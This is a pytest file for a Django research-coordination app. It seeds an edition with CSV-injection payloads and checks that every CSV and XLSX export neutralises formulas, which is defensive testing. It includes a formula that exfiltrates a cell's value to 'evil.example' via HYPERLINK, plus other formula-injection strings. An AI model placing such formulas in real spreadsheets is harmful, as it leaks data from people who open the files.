"""Every CSV and XLSX the app offers, on the web and on the command line, holds no live formula.

One edition is filled with what a hostile respondent, expert or coordinator could type (the
OWASP "CSV Injection" payloads); every export is then run and read back with the csv module and
openpyxl. The list of exports is checked against the code: a module that writes a spreadsheet
must do so through ``ontmoeting.privacy.tabular``, and each module and format that writer is
called for must be in the list below. (The SPSS ``.sav`` export is not a spreadsheet: not here.)
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

import ontmoeting
from ontmoeting.cli import main
from ontmoeting.expenses.services import approve_claim
from ontmoeting.privacy.tabular import DANGEROUS_FIRST, QUOTE
from ontmoeting.surveys import services as survey_services
from ontmoeting.surveys.enums import ItemKind
from ontmoeting.surveys.models import Answer, StudyCodeVault
from tests.factories import (
    ExperienceDomainFactory,
    ExpertProfileFactory,
    MembershipFactory,
    SelfHelpGroupFactory,
)
from tests.reports.survey_data import make_survey_edition
from tests.web.expenses_factories import expert, private_receipts, submitted

__all__ = ["private_receipts"]

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
#: One more payload per dangerous first character, and one hidden behind a control character
#: (XML cannot hold it; dropped, it would leave a formula behind).
PAYLOADS = ("+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\x01=1+1")
REASON = "Follow-up interviews with consent"
SRC = Path(ontmoeting.__file__).parent
WRITER = "ontmoeting.privacy.tabular"


@pytest.fixture(autouse=True)
def _restore_language():
    """``main`` activates the CLI's language for the thread; give the next test the default."""
    yield
    from django.utils import translation

    translation.deactivate()


@dataclass
class Hostile:
    edition: object
    client: Client
    tmp: Path


def _survey_answers(data) -> None:
    open_answers = Answer.objects.filter(
        response__wave=data.post, item__kind=ItemKind.OPEN
    ).order_by("response__study_code__code")
    texts = (HOSTILE, *PAYLOADS)
    for answer, text in zip(open_answers, texts, strict=False):
        Answer.objects.filter(pk=answer.pk).update(value_text=text)
    coded = Answer.objects.get(value_text=HOSTILE)
    code = survey_services.create_code(label=HOSTILE, description="+1+1", actor="test")
    survey_services.code_answer(answer=coded, codes=[code], excerpt="=HYPERLINK", actor="test")
    first = StudyCodeVault.objects.get(study_code=data.codes[0]).participant.person
    first.first_name, first.last_name, first.email = HOSTILE, "-1+1", "=x@evil.example"
    first.save()


def _expert_with_claim(edition, coordinator) -> None:
    volunteer = expert(
        edition,
        person__first_name=HOSTILE,
        person__last_name="@SUM(A1:A9)",
        person__email="+expert@example.org",
        accessibility="=1+1",
        diet="-1+1",
        language="nl",
        languages=["nl"],
    )
    profile = ExpertProfileFactory(
        person=volunteer.person, accessibility="=1+1", diet="-1+1", languages=["nl"]
    )
    volunteer.person.phone = "+32 470 12 34 56"
    volunteer.person.save()
    MembershipFactory(expert=profile, group=SelfHelpGroupFactory(name=HOSTILE))
    claim = submitted(volunteer, account_holder="+1+1")
    approve_claim(claim=claim, actor=coordinator)


@pytest.fixture
def hostile(db, make_staff, private_receipts, tmp_path) -> Hostile:
    data = make_survey_edition(
        n_students=len(PAYLOADS) + 1,
        covariates=[{"expert_domain": HOSTILE}] + [{"expert_domain": p} for p in PAYLOADS],
    )
    _survey_answers(data)
    ExperienceDomainFactory(code="hostile", name_nl=HOSTILE, name_en=HOSTILE, name_it=HOSTILE)
    coordinator = make_staff("coordinator")
    _expert_with_claim(data.edition, coordinator)
    client = Client()
    client.force_login(coordinator)
    return Hostile(data.edition, client, tmp_path)


# The exports ------------------------------------------------------------------------------------


def _get(url: str) -> Callable[[Hostile], bytes]:
    def run(h: Hostile) -> bytes:
        response = h.client.get(url.format(pk=h.edition.pk))
        assert response.status_code == 200
        return b"".join(response) if response.streaming else response.content

    return run


def _post(url: str, data: dict[str, str]) -> Callable[[Hostile], bytes]:
    def run(h: Hostile) -> bytes:
        response = h.client.post(url.format(pk=h.edition.pk), data)
        assert response.status_code == 200
        return response.content

    return run


def _cli(*args: str, suffix: str) -> Callable[[Hostile], bytes]:
    def run(h: Hostile) -> bytes:
        out = h.tmp / f"export.{suffix}"
        assert main([*(a.replace("OUT", str(out)) for a in args)]) == 0
        return out.read_bytes()

    return run


def _samples(kind: str) -> Callable[[Hostile], bytes]:
    def run(h: Hostile) -> bytes:
        from ontmoeting.demo.samples import write_samples

        students, experts = write_samples(h.edition, h.tmp / "samples")
        return (students if kind == "students" else experts).read_bytes()

    return run


def _in_words(which: int) -> Callable[[Hostile], bytes]:
    def run(h: Hostile) -> bytes:
        from ontmoeting.demo.in_words import write_in_words

        return write_in_words(h.edition, h.tmp / "in_words")[which].read_bytes()

    return run


def _harvest(fmt: str) -> Callable[[Hostile], bytes]:
    """A co-creation meeting's harvest, with a hostile note at a table."""

    def run(h: Hostile) -> bytes:
        from ontmoeting.cocreation.tables import plan_tables, save_note
        from tests.cocreation.tables_data import co_creation_edition

        meeting = co_creation_edition(2027).edition
        plan, _result = plan_tables(meeting, actor="test", rounds=1, min_size=3, max_size=6)
        save_note(plan, round=1, table=1, text=HOSTILE, actor="test")
        url = f"/editions/{meeting.pk}/tables/{plan.version}/harvest.{fmt}"
        return _get(url)(h)

    return run


def _trajectory(h: Hostile) -> bytes:
    """A team trajectory whose session and action hold what a team typed."""
    from tests.cocreation.trajectory_factories import ActionFactory

    action = ActionFactory(description=HOSTILE, owner="+1+1", status_note="@SUM(A1:A9)")
    session = action.session
    session.themes, session.learning_notes = "-1+1", "\t=1+1"
    session.save()
    return _get(f"/trajectories/{session.trajectory_id}/export.xlsx")(h)


def _demo_roster(h: Hostile) -> bytes:
    from ontmoeting.demo.cocreation import roster_csv

    return roster_csv(("Voornaam", "Organisatie"), [[HOSTILE, "+1+1"], ["@SUM(A1:A9)", "-1+1"]])


@dataclass(frozen=True)
class Export:
    name: str
    fmt: str
    module: str  # the module that writes it (through the one writer)
    run: Callable[[Hostile], bytes]
    carries_input: bool = True  # holds what people typed (an empty template does not)


SURVEY = "ontmoeting.surveys.exports.writers"
QDA = "ontmoeting.surveys.exports.qda"
FINANCE = "ontmoeting.expenses.finance_xlsx"
TEMPLATE = "ontmoeting.editions.roster.template"
SAMPLES = "ontmoeting.demo.samples"
IN_WORDS = "ontmoeting.demo.in_words"
LIST = "ontmoeting.editions.list_export"
IDENTIFIED = {
    "identified-format": "",
    "identified-audience": "students",
    "identified-reason": REASON,
}
EXPORTS = [
    *[
        Export(
            f"web survey {fmt}",
            fmt,
            SURVEY,
            _post("/reports/2026/export/", {"format": fmt, "audience": "students"}),
        )
        for fmt in ("csv", "xlsx")
    ],
    *[
        Export(
            f"web identified survey {fmt}",
            fmt,
            SURVEY,
            _post("/reports/2026/export/identified/", IDENTIFIED | {"identified-format": fmt}),
        )
        for fmt in ("csv", "xlsx")
    ],
    Export("web codebook", "xlsx", SURVEY, _get("/reports/2026/codebook.xlsx")),
    *[
        Export(
            f"web coding {fmt}", fmt, QDA, _get(f"/research/editions/{{pk}}/coding/export.{fmt}")
        )
        for fmt in ("csv", "xlsx")
    ],
    Export("web finance", "xlsx", FINANCE, _get("/editions/{pk}/expenses/finance.xlsx")),
    *[
        Export(
            f"web participant list {fmt}",
            fmt,
            LIST,
            _post("/editions/{pk}/participants/bulk/", {"action": f"export-{fmt}"}),
        )
        for fmt in ("csv", "xlsx")
    ],
    *[
        Export(
            f"web roster template {kind} {fmt}",
            fmt,
            TEMPLATE,
            _get(f"/editions/{{pk}}/roster/template/{kind}.{fmt}"),
            carries_input=fmt == "xlsx",
        )
        for kind in ("students", "experts")
        for fmt in ("csv", "xlsx")
    ],
    *[
        Export(
            f"cli survey {fmt}",
            fmt,
            SURVEY,
            _cli("export", "survey", "2026", "--format", fmt, "--out", "OUT", suffix=fmt),
        )
        for fmt in ("csv", "xlsx")
    ],
    *[
        Export(
            f"cli identified survey {fmt}",
            fmt,
            SURVEY,
            _cli(
                *("export", "survey", "2026", "--format", fmt, "--out", "OUT"),
                *("--profile", "identified", "--reason", REASON),
                suffix=fmt,
            ),
        )
        for fmt in ("csv", "xlsx")
    ],
    Export(
        "cli codebook",
        "xlsx",
        SURVEY,
        _cli("export", "codebook", "2026", "--out", "OUT", suffix="xlsx"),
    ),
    Export(
        "cli finance",
        "xlsx",
        FINANCE,
        _cli("expenses", "finance", "--edition", "2026", "--out", "OUT", suffix="xlsx"),
    ),
    *[
        Export(
            f"cli roster template {fmt}",
            fmt,
            TEMPLATE,
            _cli("template", "experts", "OUT", suffix=fmt),
            carries_input=fmt == "xlsx",
        )
        for fmt in ("csv", "xlsx")
    ],
    Export("demo sample students", "csv", SAMPLES, _samples("students")),
    Export("demo sample experts", "xlsx", SAMPLES, _samples("experts")),
    Export("demo experts in words", "csv", IN_WORDS, _in_words(0)),
    Export("demo next year's experts", "csv", IN_WORDS, _in_words(1)),
    Export("demo co-creation roster", "csv", "ontmoeting.demo.cocreation", _demo_roster),
    *[
        Export(f"web harvest {fmt}", fmt, "ontmoeting.web.views.cocreation_tables", _harvest(fmt))
        for fmt in ("csv", "xlsx")
    ],
    Export("web trajectory", "xlsx", "ontmoeting.cocreation.trajectory_export", _trajectory),
]


# Reading them back ------------------------------------------------------------------------------


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    first_line = text.splitlines()[0]
    delimiter = ";" if first_line.count(";") > first_line.count(",") else ","
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def _live_in_csv(data: bytes) -> list[str]:
    """Cells a spreadsheet program would run: a dangerous first character on anything but a number."""
    return [c for c in _csv_cells(data) if c[:1] in DANGEROUS_FIRST and not _is_number(c)]


def _xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _shown(cell) -> str:
    """The cell's text as Excel keeps it: a cell with the hidden "quote prefix" is what Excel
    stores for text typed with a leading ``'`` (it is shown and edited as text)."""
    return (QUOTE if cell.quotePrefix else "") + str(cell.value)


def _live_in_xlsx(data: bytes) -> list[str]:
    return [
        f"{cell.coordinate}={cell.value!r} ({cell.data_type})"
        for cell in _xlsx_cells(data)
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and _shown(cell)[:1] in DANGEROUS_FIRST)
    ]


def _texts(data: bytes, fmt: str) -> list[str]:
    if fmt == "csv":
        return _csv_cells(data)
    return [_shown(cell) for cell in _xlsx_cells(data) if cell.value is not None]


@pytest.mark.parametrize("export", EXPORTS, ids=[e.name for e in EXPORTS])
def test_no_export_holds_a_live_formula(hostile, export):
    data = export.run(hostile)
    live = _live_in_csv(data) if export.fmt == "csv" else _live_in_xlsx(data)
    assert live == []
    if export.carries_input:
        # The payload is there, made harmless (in the codebook it is one of a cell's values).
        assert any(t.startswith(QUOTE) and HOSTILE in t for t in _texts(data, export.fmt))


# The list above is every export ------------------------------------------------------------------

#: Ways of writing a spreadsheet that only the one writer may use.
WRITING_NAMES = {
    ("csv", "writer"),
    ("csv", "DictWriter"),
    ("openpyxl", "Workbook"),
    ("openpyxl.workbook", "Workbook"),
    ("openpyxl", "writer"),
}
WRITING_METHODS = {"to_csv", "to_excel", "writerow", "writerows"}
WRITING_MODULES = {"xlsxwriter", "openpyxl.writer", "pyexcel", "odf"}


def _modules() -> dict[str, ast.Module]:
    return {
        "ontmoeting." + ".".join(path.relative_to(SRC).with_suffix("").parts): ast.parse(
            path.read_text(encoding="utf-8")
        )
        for path in sorted(SRC.rglob("*.py"))
        if "migrations" not in path.parts
    }


def _writes_itself(tree: ast.Module) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            found += [
                f"from {node.module} import {a.name}"
                for a in node.names
                if (node.module, a.name) in WRITING_NAMES
            ]
            if node.module.split(".")[0] in WRITING_MODULES or node.module in WRITING_MODULES:
                found.append(f"from {node.module}")
        elif isinstance(node, ast.Import):
            found += [
                f"import {a.name}"
                for a in node.names
                if a.name in WRITING_MODULES or a.name.split(".")[0] in WRITING_MODULES
            ]
        elif isinstance(node, ast.Attribute):
            if isinstance(node.value, ast.Name) and (node.value.id, node.attr) in WRITING_NAMES:
                found.append(f"{node.value.id}.{node.attr}")
            elif node.attr in WRITING_METHODS:
                found.append(f".{node.attr}(...)")
    return found


def test_no_module_writes_a_spreadsheet_but_the_one_writer():
    """A CSV or XLSX written any other way would skip the rule: only the writer may do it."""
    offenders = {
        name: found
        for name, tree in _modules().items()
        if name != WRITER and (found := _writes_itself(tree))
    }
    assert offenders == {}


def _formats_written(tree: ast.Module) -> set[str]:
    """``{"csv", "xlsx"}``, or part of it: which of the writer's functions a module calls."""
    called = {
        getattr(node, "id", getattr(node, "attr", ""))
        for node in ast.walk(tree)
        if isinstance(node, ast.Name | ast.Attribute)
    }
    return {fmt for fmt in ("csv", "xlsx") if f"{fmt}_bytes" in called}


def test_every_module_that_writes_a_spreadsheet_is_run_on_hostile_data():
    """A new export (a module using the writer) fails here until the list above runs it."""
    written = {
        (name, fmt)
        for name, tree in _modules().items()
        if name != WRITER
        for fmt in _formats_written(tree)
    }
    assert written == {(e.module, e.fmt) for e in EXPORTS}


def test_sample_roster_files_import_back_unchanged_with_their_neutralised_cells(hostile):
    """The importer takes the quote off again: ``'+32 470 ...`` is read as ``+32 470 ...``."""
    from ontmoeting.demo.samples import write_samples
    from ontmoeting.editions.roster import import_roster

    hostile.edition.participants.update(language="nl", languages=["nl"])
    students, experts = write_samples(hostile.edition, hostile.tmp)
    assert "'+32 470 12 34 56" in _texts(experts.read_bytes(), "xlsx")
    for kind, path in (("experts", experts), ("students", students)):
        report = import_roster(path, kind=kind, edition=hostile.edition, dry_run=True, actor="test")
        assert report.errors == []
        assert (report.count("created"), report.count("updated")) == (0, 0), report.as_text()
